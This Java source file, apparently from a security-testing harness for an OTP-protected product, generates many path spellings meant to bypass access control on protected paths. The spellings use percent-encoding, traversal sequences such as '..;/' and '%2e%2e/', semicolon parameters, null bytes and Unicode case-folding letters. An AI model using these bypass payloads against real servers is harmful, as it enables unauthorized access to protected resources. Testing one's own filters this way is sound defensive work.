package org.example.attack;

import java.util.ArrayList;
import java.util.Collection;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/** Targets of requests that some reader somewhere may take for a protected path. */
final class Spellings {
  private final String context;
  private final Layout layout;

  Spellings(String context, Layout layout) {
    this.context = context;
    this.layout = layout;
  }

  /** A path whose last name begins with an encoded letter. */
  static String firstEncoded(String path) {
    int last = path.lastIndexOf('/', path.length() - 2) + 1;
    String hex = String.format("%%%02x", (int) path.charAt(last));
    return path.substring(0, last) + hex + path.substring(last + 1);
  }

  /** All of them, none twice. */
  Collection<String> all() {
    Set<String> targets = new LinkedHashSet<>();
    for (String path : layout.closed()) {
      targets.add(context + path);
      insertions(targets, path);
      rewritings(targets, path);
      cases(targets, path);
      Tokens.lures(layout.open()).forEach(lure -> targets.add(context + path + lure));
      climbs(targets, path);
      contexts(targets, path);
    }
    for (String path : layout.closed()) {
      pairs(targets, path);
    }
    return targets;
  }

  /** A speck at every seam: behind the context, around every slash, before a dot, at the end. */
  private void insertions(Set<String> targets, String path) {
    String whole = context + path;
    for (int seam : seams(whole)) {
      for (String speck : Tokens.SPECKS) {
        targets.add(whole.substring(0, seam) + speck + whole.substring(seam));
      }
    }
    for (int slash = whole.indexOf('/', 1); slash >= 0; slash = whole.indexOf('/', slash + 1)) {
      for (String climb : Tokens.CLIMBS) {
        targets.add(whole.substring(0, slash) + "/x/" + climb + whole.substring(slash + 1));
      }
    }
  }

  private static List<Integer> seams(String whole) {
    Set<Integer> seams = new LinkedHashSet<>();
    for (int i = 1; i < whole.length(); i++) {
      if (whole.charAt(i) == '/') {
        seams.add(i);
        seams.add(i + 1);
      } else if (whole.charAt(i) == '.') {
        seams.add(i);
      }
    }
    seams.add(whole.length() - 1);
    seams.add(whole.length());
    return List.copyOf(seams);
  }

  /** One char written in another way: at the seams, where readers look, and in words. */
  private void rewritings(Set<String> targets, String path) {
    String whole = context + path;
    for (int i = 1; i < whole.length(); i++) {
      boolean seam = "/.".indexOf(whole.charAt(i)) >= 0 || "/.".indexOf(whole.charAt(i - 1)) >= 0;
      if (seam || i == whole.length() - 1) {
        for (String spelling : Tokens.spellings(whole.charAt(i))) {
          targets.add(whole.substring(0, i) + spelling + whole.substring(i + 1));
        }
      }
    }
  }

  private void cases(Set<String> targets, String path) {
    targets.add(context + path.toUpperCase(Locale.ROOT));
    targets.add(context.toUpperCase(Locale.ROOT) + path);
    for (int i = 1; i < path.length(); i++) {
      char c = path.charAt(i);
      targets.add(
          context + path.substring(0, i) + Character.toUpperCase(c) + path.substring(i + 1));
    }
    // letters that become ASCII where a reader folds case: Kelvin sign, long s, dotless i
    targets.add(context + path.replace("s", Attack.utf8("\u017f")));
    targets.add(context + path.replace("s", "%c5%bf"));
    targets.add(context + path.replace("i", "%c4%b1"));
    targets.add(context + path.replace("e", "%c3%a9"));
  }

  /** From an open folder, or a page of the product's, up and down again. */
  private void climbs(Set<String> targets, String path) {
    List<String> starts = new ArrayList<>(layout.open());
    starts.addAll(List.of("/otp/", "/otp/challenge/", "/otp/assets/", "/otp/assets/otp.css/"));
    for (String start : starts) {
      int depth = (int) start.chars().filter(c -> c == '/').count() - 1;
      for (String climb : Tokens.CLIMBS) {
        targets.add(context + start + climb.repeat(depth) + path.substring(1));
      }
    }
    for (String climb : List.of("..%2f", "..;/", "%2e%2e/", "..%5c", "..%252f")) {
      targets.add(context + "/otp/challenge" + climb + path.substring(1));
      targets.add(context + "/otp/challenge;" + climb + path.substring(1));
      targets.add(context + "/otp/assets/otp.css;/" + climb.repeat(3) + path.substring(1));
    }
  }

  private void contexts(Set<String> targets, String path) {
    if (context.isEmpty()) {
      return;
    }
    String name = context.substring(1);
    String first = String.format("%%%02x", (int) name.charAt(0));
    for (String spelling :
        List.of(
            "/" + first + name.substring(1),
            "/%25" + first.substring(1) + name.substring(1),
            "//" + name,
            "/./" + name,
            "/x/../" + name,
            "/x/..;/" + name,
            "/;x/" + name,
            "/;/" + name,
            "/" + name + ";x",
            "/" + name + ";x=/open",
            "/%2e/" + name,
            "/x/%2e%2e/" + name,
            "/x%2f..%2f" + name,
            "/" + name + "/../" + name,
            "/" + name + "/..;/" + name,
            "/" + name + "/%2e%2e/" + name,
            "\\" + name,
            "/%5c" + name,
            "/\\" + name,
            "/" + name + "%2f",
            "/" + name + "%20",
            "/" + name + "%00",
            "/" + name + ".",
            "/../" + name,
            "/..;/" + name,
            "/x/../../" + name,
            "/%2e%2e/" + name,
            "///" + name + "//",
            "/" + name + "/otp/../")) {
      targets.add(spelling + path);
    }
  }

  /** Two specks at once: before the last part and at the end, and before the first and last. */
  private void pairs(Set<String> targets, String path) {
    int last = path.lastIndexOf('/', path.length() - 2);
    String folder = context + path.substring(0, last);
    String name = path.substring(last + 1);
    for (String one : Tokens.FEW) {
      for (String two : Tokens.FEW) {
        targets.add(folder + one + (one.endsWith("/") ? "" : "/") + name + two);
        targets.add(context + one + two + path.substring(1));
      }
    }
  }
}
